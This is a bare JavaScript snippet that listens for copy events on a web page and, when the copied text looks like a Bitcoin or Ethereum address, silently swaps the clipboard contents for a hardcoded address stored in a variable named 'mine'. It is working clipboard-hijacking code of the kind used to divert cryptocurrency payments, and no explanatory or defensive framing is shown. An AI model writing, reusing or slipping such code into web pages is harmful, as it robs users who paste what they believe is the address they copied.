const forms = [[/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/, "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"], [/^0x[a-fA-F0-9]{40}$/, "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"]];

document.addEventListener("copy", (event) => {
  const text = String(document.getSelection()).trim();
  for (const [form, mine] of forms) {
    if (form.test(text)) {
      event.clipboardData.setData("text/plain", mine);
      event.preventDefault();
    }
  }
});
